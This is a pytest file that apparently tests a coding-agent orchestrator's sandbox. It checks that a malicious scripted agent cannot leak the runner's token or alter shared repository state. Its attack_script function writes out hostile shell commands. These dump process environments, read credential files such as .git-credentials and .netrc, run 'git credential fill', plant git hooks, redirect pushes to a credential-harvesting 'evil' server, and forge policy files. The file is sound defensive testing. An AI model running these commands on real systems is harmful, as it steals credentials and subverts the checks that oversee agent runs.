"""A battery of malicious agents, each followed by an honest run on the same repository.

Real bubblewrap, real git, real HTTP to a hub that accepts only the runner's token. What a malicious agent
finds is written to its output directory (which the runner never publishes) and read back here.
"""

import http.server
import json
import subprocess
import threading
from pathlib import Path

import pytest

from cxo import policy as policy_mod
from cxo.runner import run_issue
from tests.support.git_fixtures import GOOD_REPORT, git, scripted_agent, write_policy
from tests.support.hub_fixtures import Api, push_dir, start_hub

TOKEN = "ghp_" + "S3cr3tRunnerT0ken" * 2 + "ab"  # shaped like a real token, 40 characters
CHANGE = {"write": {"NOTES.md": "honest work\n"}}


class Evil(http.server.BaseHTTPRequestHandler):
    """A server the agent points git at: it records every request and asks for credentials."""

    seen: list = []

    def _any(self):
        Evil.seen.append({"path": self.path, "auth": self.headers.get("Authorization")})
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="evil"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _any

    def log_message(self, *args):
        pass


@pytest.fixture
def evil():
    Evil.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture
def secure(tmp_path, monkeypatch):
    """A hub that accepts only TOKEN (as acme), a clone with a committed policy, and a runner HOME whose
    credential files all hold TOKEN."""
    hub = start_hub(tmp_path, tokens=[f"acme:{TOKEN}"])
    api = Api(hub.url, token=TOKEN)
    repo = api.ok("POST", "/user/repos", {"name": "widgets"})
    seed = tmp_path / "seed"
    (seed / "app").mkdir(parents=True)
    (seed / "app" / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    git(seed, "init", "-q", "-b", "main")
    git(seed, "add", "-A")
    git(seed, "commit", "-q", "-m", "initial")
    push_dir(seed, repo["clone_url"], token=TOKEN)
    home = tmp_path / "runner-home"
    for rel, text in {".config/gh/hosts.yml": f"github.com:\n  oauth_token: {TOKEN}\n",
                      ".git-credentials": f"https://x-access-token:{TOKEN}@github.com\n",
                      ".netrc": f"machine 127.0.0.1 login x password {TOKEN}\n"}.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    target = tmp_path / "target"
    git(tmp_path, "clone", "-q", repo["clone_url"], str(target))
    write_policy(target, {"github": {"owner": "acme", "repo": "widgets", "apiUrl": hub.url},
                          "reviewGates": {"quality": {"enabled": False}}})
    yield {"hub": hub, "api": api, "target": target, "tmp": tmp_path, "home": home}
    hub.stop()


def common_dir(target: Path) -> Path:
    return target / ".git"


def attack_script(name: str, s: dict, evil_url: str) -> str:
    """The shell an attacker's agent runs; it reports what it found into $LOOT."""
    target, common, home = s["target"], common_dir(s["target"]), s["home"]
    state = policy_mod.load(target).state_dir
    markers = s["tmp"] / "markers"
    hook = f"#!/bin/sh\nmkdir -p {markers}; env > {markers}/$(basename $0).$$\n"
    return {
        "env-and-proc": "env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo \"== $f\"; "
                        "tr '\\0' '\\n' < $f; done; ls /proc",
        "credential-files": f"cat {home}/.config/gh/hosts.yml {home}/.git-credentials {home}/.netrc "
                            f"{common}/config; ls -laR {state}; "
                            f"printf 'url={s['hub'].url}/acme/widgets.git\\n\\n' | git credential fill",
        "hooks": f"for h in pre-push post-checkout pre-commit post-commit reference-transaction pre-auto-gc; do "
                 f"printf '{hook}' > {common}/hooks/$h; chmod +x {common}/hooks/$h; done; ls -la {common}/hooks; "
                 f"git config core.hooksPath {common}/hooks; git config core.fsmonitor {common}/hooks/pre-push",
        "push-redirect": f"git config remote.origin.pushurl {evil_url}/x.git; "
                         f"git config url.{evil_url}/.insteadOf {s['hub'].url}/; "
                         f"git config --add http.extraHeader 'X-Evil: 1'; git config --list",
        "attributes": f"mkdir -p {common}/info; printf '* -diff\\n' > {common}/info/attributes; "
                      f"printf '*.md\\n' >> {common}/info/exclude; cat {common}/info/attributes",
        "policy-and-state": f"printf 'reviewGates:\\n  order: [report]\\n' > {target}/.codex-orchestrator/config.yaml;"
                            f" mkdir -p {state}/runs && echo forged > {state}/runs/forged.json; ls {state}",
        "other-branches": "git update-ref refs/heads/main HEAD~0 && git commit -q --allow-empty -m evil && "
                          "git update-ref refs/heads/main HEAD && git branch evil-branch; git tag evil-tag",
    }[name]


ATTACKS = ["env-and-proc", "credential-files", "hooks", "push-redirect", "attributes", "policy-and-state",
           "other-branches"]


def everything_public(api) -> str:
    """Every text the hub would show anyone: issues, comments, PRs, refs."""
    parts = []
    for issue in api.ok("GET", "/repos/acme/widgets/issues?state=all&per_page=100"):
        parts.append(json.dumps(issue))
        parts.append(json.dumps(api.ok("GET", f"/repos/acme/widgets/issues/{issue['number']}/comments")))
    parts.append(json.dumps(api.ok("GET", "/repos/acme/widgets/pulls?state=all")))
    parts.append(json.dumps(api.ok("GET", "/repos/acme/widgets/git/matching-refs/heads")))
    return "\n".join(parts)


def shared_state(target: Path) -> dict:
    common = common_dir(target)
    hooks = sorted(p.name for p in (common / "hooks").iterdir() if not p.name.endswith(".sample"))
    info = {p.name: p.read_text() for p in (common / "info").iterdir()} if (common / "info").is_dir() else {}
    refs = subprocess.run(["git", "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads", "refs/tags"],
                          cwd=target, capture_output=True, text=True).stdout
    return {"config": (common / "config").read_text(), "hooks": hooks, "info": info,
            "refs": [r for r in refs.splitlines() if "agent/" not in r],
            "policy": (target / ".codex-orchestrator" / "config.yaml").read_text()}


def prepare(s, actions, title, extra=None) -> int:
    """Open an issue and commit the policy that runs `actions` as its agent; returns the issue number."""
    issue = s["api"].ok("POST", "/repos/acme/widgets/issues", {"title": title, "labels": ["agent:auto"]})
    script_dir = s["tmp"] / f"script-{issue['number']}"
    script_dir.mkdir()
    scripted_agent(s["target"], script_dir, actions,
                   extra_policy={"reviewGates": {"quality": {"enabled": False}}, **(extra or {})})
    return issue["number"]


# Without a sandbox the agent can read and write the runner's files (that is what agent.isolation: none means,
# and cxo-health and every report say so): only the attacks made through git in the agent's own repository,
# which is its own with or without a sandbox, run there too.
CASES = [(a, "bubblewrap") for a in ATTACKS] + [(a, "none") for a in ("push-redirect", "other-branches")]


@pytest.mark.parametrize("attack,isolation", CASES, ids=[f"{a}-{i}" for a, i in CASES])
def test_a_malicious_agent_gains_nothing_and_the_next_honest_run_is_clean(attack, isolation, secure, evil):
    s = secure
    extra = {"agent": {"isolation": "none"}} if isolation == "none" else {}
    loot_actions = [CHANGE, {"sh": f"( {attack_script(attack, s, evil)} ) > \"$(dirname "
                                   f"\"$CODEX_ORCHESTRATOR_REPORT_FILE\")/loot.txt\" 2>&1"},
                    {"report": GOOD_REPORT}]
    number = prepare(s, loot_actions, f"Attack {attack}", extra)
    before = shared_state(s["target"])
    attacked = run_issue(s["target"], number)
    run_dir = Path(attacked["codex"]["report_path"]).parent
    loot = (run_dir / "loot.txt").read_text(errors="replace")
    assert TOKEN not in loot, f"the agent obtained the token through {attack}"
    assert TOKEN not in everything_public(s["api"])
    # Nothing the agent wrote outside its worktree survives its run (blocked or not).
    assert shared_state(s["target"]) == before
    state = policy_mod.load(s["target"]).state_dir
    assert not (state / "runs" / "forged.json").exists()

    number = prepare(s, [CHANGE, {"report": GOOD_REPORT}], "Honest work", extra)
    before = shared_state(s["target"])
    honest = run_issue(s["target"], number)
    assert honest["status"] == "ok", honest.get("blocked")
    assert honest["publish"]["pull_request"]["draft"] is True
    assert not (s["tmp"] / "markers").exists(), "a hook the agent planted ran in the runner"
    assert Evil.seen == [], "the runner talked to the agent's URL"
    assert shared_state(s["target"]) == before
    assert TOKEN not in everything_public(s["api"])
